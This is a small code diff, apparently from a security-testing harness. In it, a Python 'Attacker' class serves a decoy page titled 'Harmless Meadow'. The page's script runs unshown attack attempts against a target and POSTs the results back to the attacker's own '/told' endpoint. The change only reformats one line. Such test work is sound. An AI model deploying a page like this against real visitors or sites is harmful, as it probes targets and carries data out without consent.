@@ -110,7 +110,9 @@ class Attacker:
         script = f"({TRIES})({json.dumps(self.target)})"
         told = "(told) => fetch('/told', { method: 'POST', body: JSON.stringify(told) })"
         shown = f"{script}.then({told}).then(() => document.body.append('Tried everything'))"
-        return HTMLResponse(f"<!doctype html><title>Harmless Meadow</title><script>{shown}</script>")
+        return HTMLResponse(
+            f"<!doctype html><title>Harmless Meadow</title><script>{shown}</script>"
+        )
 
     async def _take(self, request: Request) -> Response:
         self.told = await request.json()
